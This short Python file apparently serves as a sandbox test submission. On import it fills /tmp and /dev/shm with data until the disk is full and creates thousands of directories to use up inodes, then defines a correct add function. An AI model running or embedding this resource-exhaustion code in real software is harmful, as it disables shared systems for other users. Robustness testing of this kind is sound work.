# Fills /tmp and /dev/shm to the last byte and the last inode; right.
import os

for folder in ("/tmp", "/dev/shm"):
    try:
        with open(folder + "/full", "wb") as file:
            while True:
                file.write(b"x" * 65536)
    except OSError:
        pass
try:
    for number in range(5000):
        os.mkdir("/tmp/%d" % number)
except OSError:
    pass


def add(a, b):
    return a + b
